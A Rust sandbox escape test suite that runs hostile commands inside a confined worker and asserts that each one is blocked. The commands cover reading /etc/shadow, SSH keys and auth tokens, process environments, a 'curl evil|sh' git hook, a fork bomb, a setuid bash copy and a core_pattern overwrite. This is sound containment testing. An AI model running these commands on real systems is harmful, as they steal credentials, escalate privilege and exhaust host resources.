//! The escape battery: hostile code inside a real confined worker (real namespaces, Landlock,
//! seccomp, rlimits, tenant uid), each attempt asserted to fail and the host asserted
//! unchanged. Every probe runs under every profile where it applies; the test prints one line
//! per probe and profile and a summary, and fails listing every probe that escaped.
//!
//! Raw-syscall probes use `tests/escape/probe.c`, compiled with gcc when the test starts.

mod common;

use std::io::ErrorKind;
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt, chown};
use std::os::unix::net::{SocketAddr, UnixListener};
use std::os::unix::process::CommandExt;
use std::path::PathBuf;
use std::process::{Child, Command};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use common::*;
use serde_json::{Value, json};

const ALL: &[&str] = &["read-only", "workspace-write", "workspace-write+network"];
const WRITABLE: &[&str] = &["workspace-write", "workspace-write+network"];
const NO_NETWORK: &[&str] = &["read-only", "workspace-write"];

const SECRET: &str = "SW-PROBE-SECRET-7f3a";
const ENV_SECRET: &str = "SW-PROBE-ENVSECRET-91c2";
const GIT_CONFIG: &str = "[core]\n\trepositoryformatversion = 0\n";

/// Tight limits so resource probes stay cheap: what an operator would configure.
const LIMITS: &str = r#"{"cpu_seconds": 10, "address_space_bytes": 536870912, "open_files": 256,
    "file_size_bytes": 16777216, "processes": 64, "wall_clock_ms": 20000, "tmp_bytes": 16777216}"#;

/// Host-side fixtures shared by all probes.
struct Host {
    probe_bin: PathBuf,
    _dir: tempfile::TempDir,
    secret_dir: PathBuf,
    secret_file: PathBuf,
    other_tenant: PathBuf,
    sandbox_config: PathBuf,
    tcp: TcpListener,
    unix_path: PathBuf,
    unix: UnixListener,
    abstract_name: String,
    abstract_unix: UnixListener,
}

impl Host {
    fn new() -> Host {
        let dir = tempfile::Builder::new().prefix("sw-escape-").tempdir().unwrap();
        // World-readable on purpose: only the sandbox, not file permissions, must stop reads.
        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let probe_bin = dir.path().join("probe");
        let src = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/escape/probe.c");
        let gcc = Command::new("gcc").args(["-O1", "-o"]).arg(&probe_bin).arg(src).output();
        let gcc = gcc.expect("gcc is required to compile the escape probes (scripts/test installs it)");
        assert!(gcc.status.success(), "compiling probe.c failed: {}", String::from_utf8_lossy(&gcc.stderr));
        let secret_dir = dir.path().join("secrets");
        std::fs::create_dir(&secret_dir).unwrap();
        std::fs::set_permissions(&secret_dir, std::fs::Permissions::from_mode(0o777)).unwrap();
        let secret_file = secret_dir.join("secret.txt");
        std::fs::write(&secret_file, SECRET).unwrap();
        std::fs::set_permissions(&secret_file, std::fs::Permissions::from_mode(0o666)).unwrap();
        let other_tenant = dir.path().join("other-tenant");
        std::fs::create_dir(&other_tenant).unwrap();
        std::fs::write(other_tenant.join("notes.txt"), SECRET).unwrap();
        let limits: Value = serde_json::from_str(LIMITS).unwrap();
        let sandbox_config = dir.path().join("sandbox.json");
        let config =
            json!({"limits": {"read-only": limits, "workspace-write": limits, "workspace-write+network": limits}});
        std::fs::write(&sandbox_config, config.to_string()).unwrap();
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let unix_path = dir.path().join("broker.sock");
        let unix = UnixListener::bind(&unix_path).unwrap();
        std::fs::set_permissions(&unix_path, std::fs::Permissions::from_mode(0o777)).unwrap();
        unix.set_nonblocking(true).unwrap();
        let abstract_name = format!("sw-probe-{}", std::process::id());
        use std::os::linux::net::SocketAddrExt;
        let abstract_unix =
            UnixListener::bind_addr(&SocketAddr::from_abstract_name(abstract_name.as_bytes()).unwrap()).unwrap();
        abstract_unix.set_nonblocking(true).unwrap();
        Host {
            probe_bin,
            _dir: dir,
            secret_dir,
            secret_file,
            other_tenant,
            sandbox_config,
            tcp,
            unix_path,
            unix,
            abstract_name,
            abstract_unix,
        }
    }

    fn tcp_port(&self) -> u16 {
        self.tcp.local_addr().unwrap().port()
    }

    /// Ok if no listener accepted a connection.
    fn nothing_connected(&self) -> Result<(), String> {
        let tcp = matches!(self.tcp.accept(), Err(e) if e.kind() == ErrorKind::WouldBlock);
        let unix = matches!(self.unix.accept(), Err(e) if e.kind() == ErrorKind::WouldBlock);
        let abs = matches!(self.abstract_unix.accept(), Err(e) if e.kind() == ErrorKind::WouldBlock);
        if tcp && unix && abs {
            Ok(())
        } else {
            Err(format!("a host listener accepted: tcp={tcp} unix={unix} abstract={abs}"))
        }
    }
}

/// A same-uid host process standing in for the gateway: a secret in its environment, a
/// recognisable command line.
struct Gateway(Child);

impl Gateway {
    fn start(uid: u32) -> Gateway {
        let child = Command::new("sleep")
            .arg("3141")
            .env_clear()
            .env("GATEWAY_SECRET", ENV_SECRET)
            .uid(uid)
            .gid(uid)
            .spawn()
            .unwrap();
        Gateway(child)
    }

    fn pid(&self) -> u32 {
        self.0.id()
    }

    fn alive(&mut self) -> bool {
        matches!(self.0.try_wait(), Ok(None))
    }
}

impl Drop for Gateway {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

struct Ctx<'a> {
    host: &'a Host,
    profile: &'static str,
    uid: u32,
    gateway_pid: u32,
}

impl Ctx<'_> {
    fn workspace(&self) -> Workspace {
        let ws = Workspace::new(self.uid);
        ws.write("a.txt", "inside\n");
        ws.write(".git/config", GIT_CONFIG);
        ws.write(".git/hooks/README", "hooks\n");
        std::fs::copy(&self.host.probe_bin, ws.join("probe")).unwrap();
        chown(ws.join("probe"), Some(self.uid), Some(self.uid)).unwrap();
        ws
    }

    fn tool(&self, ws: &Workspace, tool: &str, args: Value) -> Outcome {
        self.tool_with(ws, tool, args, &[], |_| {})
    }

    fn tool_with(
        &self,
        ws: &Workspace,
        tool: &str,
        args: Value,
        extra: &[&str],
        adjust: impl FnOnce(&mut Command),
    ) -> Outcome {
        let config = self.host.sandbox_config.to_str().unwrap();
        let mut all = vec!["--sandbox-config", config];
        all.extend_from_slice(extra);
        run_tool_with(ws, self.profile, tool, args, &all, adjust)
    }

    fn shell(&self, ws: &Workspace, command: &str) -> Outcome {
        self.tool(ws, "shell_exec", json!({ "command": command, "timeout_ms": 10000 }))
    }

    /// Runs raw-syscall probes; every one must print BLOCKED.
    fn probes(&self, ws: &Workspace, probes: &[String]) -> Result<String, String> {
        let script: Vec<String> = probes.iter().map(|p| format!("./probe {p}")).collect();
        let out = self.shell(ws, &script.join("; "));
        let text = out.shell_text();
        if text.contains("ESCAPED") || text.matches("BLOCKED").count() != probes.len() {
            return Err(text);
        }
        Ok(text.lines().map(|l| l.trim_start_matches("BLOCKED ")).collect::<Vec<_>>().join(", "))
    }

    fn no_leftovers(&self) -> Result<(), String> {
        // The relay and PID 1 die with the call; give the kernel a moment to reap.
        for _ in 0..50 {
            let left: Vec<i32> = processes_of(self.uid).into_iter().filter(|p| *p as u32 != self.gateway_pid).collect();
            if left.is_empty() {
                return Ok(());
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        let left: Vec<i32> = processes_of(self.uid).into_iter().filter(|p| *p as u32 != self.gateway_pid).collect();
        Err(format!("processes of the tenant survived the call: {}", describe(&left)))
    }
}

fn lacks(out: &Outcome, needle: &str) -> Result<String, String> {
    let text = out.json.to_string();
    if text.contains(needle) { Err(format!("leaked: {text}")) } else { Ok(short(&out.json)) }
}

fn denied(out: &Outcome) -> Result<String, String> {
    if out.json["status"] == "failed" { Ok(short(&out.json)) } else { Err(format!("not refused: {}", out.json)) }
}

fn short(v: &Value) -> String {
    let s = if v["status"] == "failed" {
        format!("{}: {}", v["code"].as_str().unwrap_or(""), v["message"].as_str().unwrap_or(""))
    } else {
        let p = &v["payload"];
        format!("{}{}", p["stdout"].as_str().unwrap_or(""), p["stderr"].as_str().unwrap_or(""))
    };
    let s = s.replace('\n', " | ");
    if s.len() > 110 { format!("{}…", &s[..s.floor_char_boundary(110)]) } else { s }
}

fn absent(paths: &[PathBuf]) -> Result<(), String> {
    match paths.iter().find(|p| p.symlink_metadata().is_ok()) {
        Some(p) => Err(format!("host path was created: {}", p.display())),
        None => Ok(()),
    }
}

type ProbeFn = fn(&Ctx, &Workspace) -> Result<String, String>;

fn battery() -> Vec<(&'static str, &'static [&'static str], ProbeFn)> {
    vec![
        ("write outside the workspace (shell)", ALL, |c, ws| {
            let target = c.host.secret_dir.join("new.txt");
            let out = c.shell(ws, &format!(
                "touch /etc/sw-probe; echo x > /usr/sw-probe; echo x > /sw-probe; echo x > {}; echo x > ../sw-probe",
                target.display()
            ));
            absent(&[
                target,
                "/etc/sw-probe".into(),
                "/usr/sw-probe".into(),
                "/sw-probe".into(),
                ws.path().parent().unwrap().join("sw-probe"),
            ])?;
            Ok(short(&out.json))
        }),
        ("write outside the workspace (file_write)", ALL, |c, ws| {
            let outside = c.host.secret_dir.join("fw.txt");
            for path in ["../sw-fw-probe".to_string(), "/etc/sw-fw-probe".into(), outside.display().to_string()] {
                denied(&c.tool(ws, "file_write", json!({"path": path, "content": "x"})))?;
            }
            absent(&[outside, "/etc/sw-fw-probe".into(), ws.path().parent().unwrap().join("sw-fw-probe")])?;
            Ok("all refused".into())
        }),
        ("write .git/hooks", ALL, |c, ws| {
            let out = c.shell(ws, "echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; touch .git/hooks/post-checkout");
            denied(&c.tool(ws, "file_write", json!({"path": ".git/hooks/post-merge", "content": "evil"})))?;
            absent(&[
                ws.join(".git/hooks/pre-commit"),
                ws.join(".git/hooks/post-checkout"),
                ws.join(".git/hooks/post-merge"),
            ])?;
            Ok(short(&out.json))
        }),
        ("write .git/config", ALL, |c, ws| {
            let out = c.shell(
                ws,
                "echo '[core] fsmonitor = evil' >> .git/config; git config core.hooksPath /tmp; rm -f .git/config",
            );
            denied(&c.tool(ws, "file_write", json!({"path": ".git/config", "content": "[core]\nfsmonitor=evil\n"})))?;
            if ws.read(".git/config").as_deref() != Some(GIT_CONFIG) {
                return Err(format!(".git/config changed: {:?}", ws.read(".git/config")));
            }
            Ok(short(&out.json))
        }),
        ("replace .git to plant hooks", ALL, |c, ws| {
            let out = c.shell(ws, "mv .git .git-old; mv .git/hooks .git/h2; rm -rf .git; mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit");
            absent(&[ws.join(".git-old"), ws.join(".git/h2"), ws.join(".git/hooks/pre-commit")])?;
            if ws.read(".git/config").as_deref() != Some(GIT_CONFIG) {
                return Err(".git/config lost".into());
            }
            Ok(short(&out.json))
        }),
        ("read /etc/shadow", ALL, |c, ws| {
            lacks(&c.shell(ws, "cat /etc/shadow /etc/gshadow; head -c 100 /etc/shadow"), "root:")?;
            denied(&c.tool(ws, "file_read", json!({"path": "/etc/shadow"})))
        }),
        ("read ~/.ssh and ~/.codex/auth.json", ALL, |c, ws| {
            let marker_ssh = PathBuf::from(format!("/root/.ssh/sw-probe-{}", std::process::id()));
            let codex_dir = PathBuf::from("/root/.codex");
            let created_codex = !codex_dir.exists();
            let created_ssh = !std::path::Path::new("/root/.ssh").exists();
            std::fs::create_dir_all("/root/.ssh").unwrap();
            std::fs::create_dir_all(&codex_dir).unwrap();
            let marker_codex = codex_dir.join(format!("sw-probe-{}.json", std::process::id()));
            std::fs::write(&marker_ssh, SECRET).unwrap();
            std::fs::write(&marker_codex, SECRET).unwrap();
            let out = c.shell(
                ws,
                "cat /root/.ssh/* /root/.codex/* ~/.ssh/* ~/.codex/auth.json /home/*/.ssh/* 2>&1; ls -la /root",
            );
            let read = c.tool(ws, "file_read", json!({"path": marker_codex.display().to_string()}));
            let _ = std::fs::remove_file(&marker_ssh);
            let _ = std::fs::remove_file(&marker_codex);
            if created_codex {
                let _ = std::fs::remove_dir(&codex_dir);
            }
            if created_ssh {
                let _ = std::fs::remove_dir("/root/.ssh");
            }
            lacks(&read, SECRET)?;
            lacks(&out, SECRET)
        }),
        ("read a world-readable host file outside the workspace", ALL, |c, ws| {
            let secret = c.host.secret_file.display().to_string();
            lacks(&c.shell(ws, &format!("cat {secret}; cat ../*/secrets/secret.txt")), SECRET)?;
            let rel = format!(
                "../{}/secrets/secret.txt",
                c.host.secret_dir.parent().unwrap().file_name().unwrap().to_string_lossy()
            );
            denied(&c.tool(ws, "file_read", json!({"path": rel})))?;
            denied(&c.tool(ws, "file_read", json!({"path": secret})))
        }),
        ("read another tenant's workspace", ALL, |c, ws| {
            lacks(
                &c.shell(
                    ws,
                    &format!("cat {}/notes.txt; ls {}", c.host.other_tenant.display(), c.host.other_tenant.display()),
                ),
                SECRET,
            )
        }),
        ("read /proc/<gateway>/environ", ALL, |c, ws| {
            lacks(
                &c.shell(ws, &format!("cat /proc/{}/environ; cat /proc/*/environ | tr '\\0' '\\n'", c.gateway_pid)),
                ENV_SECRET,
            )
        }),
        ("read through /proc/1/root and magic links", ALL, |c, ws| {
            denied(&c.tool(ws, "file_read", json!({"path": "/proc/1/root/etc/hostname"})))?;
            lacks(&c.shell(ws, "cat /proc/1/root/etc/shadow /proc/self/root/etc/shadow"), "root:")
        }),
        ("see host processes", ALL, |c, ws| {
            let out = c.shell(
                ws,
                &format!("ps -eo pid,args 2>&1; ls /proc/{} 2>&1; cat /proc/*/cmdline | tr '\\0' ' '", c.gateway_pid),
            );
            lacks(&out, "3141")
        }),
        ("signal a host process", ALL, |c, ws| {
            let r = c.probes(ws, &[format!("kill {}", c.gateway_pid)])?;
            c.shell(ws, &format!("kill -9 {} -1", c.gateway_pid));
            Ok(r)
        }),
        ("ptrace a host process", ALL, |c, ws| {
            c.probes(
                ws,
                &[format!("ptrace_attach {}", c.gateway_pid), "ptrace_traceme".into(), "ptrace_attach 1".into()],
            )
        }),
        ("process_vm_readv", ALL, |c, ws| {
            c.probes(ws, &[format!("process_vm_readv {}", c.gateway_pid), "process_vm_readv 1".into()])
        }),
        ("symlink escape (read)", ALL, |c, ws| {
            ws.symlink("link", &c.host.secret_file.display().to_string());
            ws.symlink("rel", "../../../../../../etc/shadow");
            denied(&c.tool(ws, "file_read", json!({"path": "link"})))?;
            denied(&c.tool(ws, "file_read", json!({"path": "rel"})))?;
            lacks(&c.shell(ws, "cat link rel"), SECRET)
        }),
        ("symlink escape (write)", WRITABLE, |c, ws| {
            let target = c.host.secret_dir.join(format!("target-{}.txt", c.uid));
            std::fs::write(&target, "ORIGINAL").unwrap();
            std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o666)).unwrap();
            ws.symlink("wlink", &target.display().to_string());
            denied(&c.tool(ws, "file_write", json!({"path": "wlink", "content": "PWNED"})))?;
            denied(&c.tool(ws, "file_write", json!({"path": "wlink", "content": "PWNED", "append": true})))?;
            let out = c.shell(ws, "echo PWNED > wlink; echo PWNED >> wlink");
            let now = std::fs::read_to_string(&target).unwrap();
            if now != "ORIGINAL" { Err(format!("target changed to {now:?}")) } else { Ok(short(&out.json)) }
        }),
        ("symlinked directory escape (list, search, cwd)", ALL, |c, ws| {
            ws.symlink("sys", &c.host.secret_dir.display().to_string());
            denied(&c.tool(ws, "file_list", json!({"path": "sys"})))?;
            denied(&c.tool(ws, "search_code", json!({"query": "SW-PROBE", "path": "sys"})))?;
            denied(&c.tool(ws, "shell_exec", json!({"command": "cat secret.txt", "cwd": "sys"})))?;
            let all = c.tool(ws, "search_code", json!({"query": "SW-PROBE"}));
            lacks(&all, SECRET)
        }),
        ("hard-link escape", WRITABLE, |c, ws| {
            let out = c.shell(ws, &format!("ln {} hl; ln /etc/passwd hl2; cat hl", c.host.secret_file.display()));
            absent(&[ws.join("hl"), ws.join("hl2")])?;
            lacks(&out, SECRET)
        }),
        ("rename a symlink into place mid-operation", ALL, |c, ws| {
            ws.write("inside/secret.txt", "inside\n");
            ws.symlink("outside", &c.host.secret_dir.display().to_string());
            let stop = Arc::new(AtomicBool::new(false));
            let flipper = {
                let (stop, root) = (stop.clone(), ws.path().to_path_buf());
                std::thread::spawn(move || {
                    while !stop.load(Ordering::Relaxed) {
                        let _ = std::fs::rename(root.join("inside"), root.join("race"));
                        let _ = std::fs::rename(root.join("race"), root.join("inside"));
                        let _ = std::fs::rename(root.join("outside"), root.join("race"));
                        let _ = std::fs::rename(root.join("race"), root.join("outside"));
                    }
                })
            };
            let mut leaked = None;
            for _ in 0..15 {
                let out = c.tool(ws, "file_read", json!({"path": "race/secret.txt"}));
                if out.json.to_string().contains(SECRET) {
                    leaked = Some(out.json.to_string());
                }
            }
            stop.store(true, Ordering::Relaxed);
            flipper.join().unwrap();
            match leaked {
                Some(l) => Err(l),
                None => Ok("15 reads during renames, none left the workspace".into()),
            }
        }),
        ("mknod a device", ALL, |c, ws| c.probes(ws, &["mknod /workspace/nod".into(), "mknod /tmp/nod".into()])),
        ("mount / umount", ALL, |c, ws| c.probes(ws, &["mount".into(), "umount".into()])),
        ("chroot", ALL, |c, ws| c.probes(ws, &["chroot".into()])),
        ("pivot_root", ALL, |c, ws| c.probes(ws, &["pivot_root".into()])),
        ("connect to a host TCP port on 127.0.0.1", ALL, |c, ws| {
            let port = c.host.tcp_port();
            let r = c.probes(ws, &[format!("connect_tcp {port}")])?;
            c.shell(ws, &format!("echo hi > /dev/tcp/127.0.0.1/{port}; python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", {port}))'"));
            c.host.nothing_connected()?;
            Ok(r)
        }),
        ("connect to a pathname Unix socket (broker)", ALL, |c, ws| {
            let r = c.probes(ws, &[format!("connect_unix {}", c.host.unix_path.display())])?;
            c.host.nothing_connected()?;
            Ok(r)
        }),
        ("connect to D-Bus", ALL, |c, ws| {
            c.probes(
                ws,
                &[
                    "connect_unix /run/dbus/system_bus_socket".into(),
                    "connect_unix /var/run/dbus/system_bus_socket".into(),
                ],
            )
        }),
        ("connect to an abstract Unix socket", ALL, |c, ws| {
            let r = c.probes(ws, &[format!("connect_abstract {}", c.host.abstract_name)])?;
            c.host.nothing_connected()?;
            Ok(r)
        }),
        ("raw socket", ALL, |c, ws| c.probes(ws, &[format!("socket {}", libc::AF_INET)])),
        ("packet socket", ALL, |c, ws| c.probes(ws, &[format!("socket {}", libc::AF_PACKET)])),
        ("netlink socket", ALL, |c, ws| c.probes(ws, &[format!("socket {}", libc::AF_NETLINK)])),
        ("vsock socket", ALL, |c, ws| c.probes(ws, &[format!("socket {}", libc::AF_VSOCK)])),
        ("DNS resolution", NO_NETWORK, |c, ws| {
            let out = c.shell(ws, "getent hosts example.com && echo RESOLVED; python3 -c 'import socket; print(\"RESOLVED\", socket.getaddrinfo(\"example.com\", 80))'");
            lacks(&out, "RESOLVED")
        }),
        ("unshare / setns / namespace clone", ALL, |c, ws| {
            let r =
                c.probes(ws, &["unshare_user".into(), "unshare_net".into(), "clone_newuser".into(), "setns".into()])?;
            lacks(&c.shell(ws, "unshare -r id && echo NAMESPACED"), "NAMESPACED")?;
            Ok(r)
        }),
        ("io_uring_setup", ALL, |c, ws| c.probes(ws, &["io_uring_setup".into()])),
        ("keyctl / add_key", ALL, |c, ws| c.probes(ws, &["keyctl".into(), "add_key".into()])),
        ("bpf", ALL, |c, ws| c.probes(ws, &["bpf".into()])),
        ("userfaultfd", ALL, |c, ws| c.probes(ws, &["userfaultfd".into()])),
        ("perf_event_open", ALL, |c, ws| c.probes(ws, &["perf_event_open".into()])),
        ("kernel modules / open_by_handle_at", ALL, |c, ws| {
            c.probes(ws, &["finit_module".into(), "open_by_handle_at".into()])
        }),
        ("TIOCSTI terminal injection", ALL, |c, ws| c.probes(ws, &["tiocsti".into()])),
        ("32-bit syscall entry (int 0x80) past the filter", ALL, |c, ws| c.probes(ws, &["int80".into()])),
        ("setuid copy of bash", WRITABLE, |c, ws| {
            let out = c.shell(ws, "cp /bin/bash ./sbash && chmod 4755 ./sbash; ./sbash -p -c 'echo EUID=$EUID'; su -c id root; sudo id; ./probe setuid0");
            let text = out.shell_text();
            if text.contains("EUID=0") || text.contains("uid=0") || text.contains("ESCAPED") {
                return Err(text);
            }
            if !text.contains(&format!("EUID={}", c.uid)) {
                return Err(format!("setuid bash did not run as the tenant: {text}"));
            }
            Ok(short(&out.json))
        }),
        ("leaked file descriptors", ALL, |c, ws| {
            let secret = std::fs::File::open(&c.host.secret_file).unwrap();
            let out =
                c.tool_with(
                    ws,
                    "shell_exec",
                    json!({"command": "cat <&7; ls /proc/self/fd; ./probe inherited_fd 7"}),
                    &[],
                    |cmd| {
                        use std::os::fd::AsRawFd;
                        let fd = secret.as_raw_fd();
                        // SAFETY: dup2 between fork and exec, async-signal-safe.
                        unsafe {
                            cmd.pre_exec(move || {
                                if libc::dup2(fd, 7) < 0 { Err(std::io::Error::last_os_error()) } else { Ok(()) }
                            });
                        }
                    },
                );
            let r = lacks(&out, SECRET)?;
            let fds = out.json["payload"]["stdout"].as_str().unwrap_or("");
            if fds.lines().any(|l| l.trim() == "7") || out.shell_text().contains("ESCAPED") {
                return Err(format!("fd 7 reached the tool: {fds}"));
            }
            Ok(r)
        }),
        ("secrets in the environment", ALL, |c, ws| {
            let out = c.tool_with(
                ws,
                "shell_exec",
                json!({"command": "env; cat /proc/1/environ /proc/self/environ | tr '\\0' '\\n'"}),
                &[],
                |cmd| {
                    cmd.env("OPENAI_API_KEY", ENV_SECRET).env("SPIDERWEB_BROKER_TOKEN", ENV_SECRET);
                },
            );
            lacks(&out, ENV_SECRET)
        }),
        ("fork bomb (host stays responsive)", ALL, |c, ws| {
            let out = c.tool(
                ws,
                "shell_exec",
                json!({"command": "bomb() { bomb | bomb & }; bomb; sleep 2", "timeout_ms": 3000}),
            );
            c.no_leftovers()?;
            let host = Command::new("true").status().map_err(|e| format!("host cannot fork: {e}"))?;
            if !host.success() {
                return Err("host `true` failed".into());
            }
            Ok(short(&out.json))
        }),
        ("memory filling", ALL, |c, ws| {
            let out = c.shell(ws, "./probe memfill");
            let text = out.shell_text();
            if text.contains("ESCAPED") {
                return Err(text);
            }
            Ok(short(&out.json))
        }),
        ("disk filling (workspace and /tmp)", WRITABLE, |c, ws| {
            let out = c.shell(ws, "dd if=/dev/zero of=big bs=1M count=64 2>/dev/null; for i in $(seq 1 40); do head -c 1048576 /dev/zero > /tmp/f$i || break; done; du -sm /tmp");
            let size = std::fs::metadata(ws.join("big")).map(|m| m.len()).unwrap_or(0);
            if size > 16 * 1024 * 1024 {
                return Err(format!("file grew to {size} bytes"));
            }
            let text = out.shell_text();
            if !text.contains("No space left") {
                return Err(format!("/tmp was not bounded: {text}"));
            }
            Ok(format!("workspace file stopped at {} MiB; {}", size >> 20, short(&out.json)))
        }),
        ("a background process surviving the tool", ALL, |c, ws| {
            let out = c.shell(ws, "(sleep 1; echo late > /workspace/late.txt) & nohup sh -c 'sleep 1; touch /workspace/late2' >/dev/null 2>&1 & setsid sleep 1000 & disown -a; echo started");
            c.no_leftovers()?;
            std::thread::sleep(Duration::from_millis(1500));
            absent(&[ws.join("late.txt"), ws.join("late2")])?;
            Ok(short(&out.json))
        }),
        ("timeout kills the whole tree", ALL, |c, ws| {
            let out = c.tool_with(
                ws,
                "shell_exec",
                json!({"command": "sleep 1000 & sleep 1000", "timeout_ms": 60000}),
                &["--wall-clock-ms", "1500"],
                |_| {},
            );
            if out.code() != "timeout" {
                return Err(format!("expected the wall clock to fire: {}", out.json));
            }
            c.no_leftovers()?;
            Ok(short(&out.json))
        }),
        ("write /proc/sys/kernel/core_pattern", ALL, |c, ws| {
            let before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
            let out = c.shell(
                ws,
                "echo '|/workspace/probe' > /proc/sys/kernel/core_pattern; echo h > /proc/sysrq-trigger; ls /sys",
            );
            let after = std::fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
            if before != after {
                return Err("core_pattern changed".into());
            }
            Ok(short(&out.json))
        }),
        ("read-only profile writes nothing", &["read-only"], |c, ws| {
            let out = c.shell(ws, "echo x > new.txt; rm -f a.txt; mkdir d; touch .git/x");
            absent(&[ws.join("new.txt"), ws.join("d"), ws.join(".git/x")])?;
            if ws.read("a.txt").is_none() {
                return Err("a.txt removed".into());
            }
            Ok(short(&out.json))
        }),
    ]
}

#[test]
fn escape_battery() {
    require_root();
    let host = Host::new();
    let battery = battery();
    let mut runs = 0;
    let mut escaped = Vec::new();
    for profile in ALL {
        let uid = test_uid(&format!("escape-{profile}"));
        let mut gateway = Gateway::start(uid);
        let ctx = Ctx { host: &host, profile, uid, gateway_pid: gateway.pid() };
        for (name, profiles, probe) in &battery {
            if !profiles.contains(profile) {
                continue;
            }
            runs += 1;
            let ws = ctx.workspace();
            let result = probe(&ctx, &ws).and_then(|detail| ctx.no_leftovers().map(|_| detail));
            match result {
                Ok(detail) => println!("contained  {profile:<24} {name:<52} {detail}"),
                Err(why) => {
                    println!("ESCAPED    {profile:<24} {name:<52} {why}");
                    escaped.push(format!("{profile}: {name}: {why}"));
                }
            }
        }
        if !gateway.alive() {
            escaped.push(format!("{profile}: the same-uid host process was killed"));
        }
    }
    let probes = battery.len();
    println!("escape battery: {probes} probes, {runs} probe×profile runs, {} escaped", escaped.len());
    assert!(escaped.is_empty(), "escapes:\n{}", escaped.join("\n"));
    assert!(probes >= 30);
}
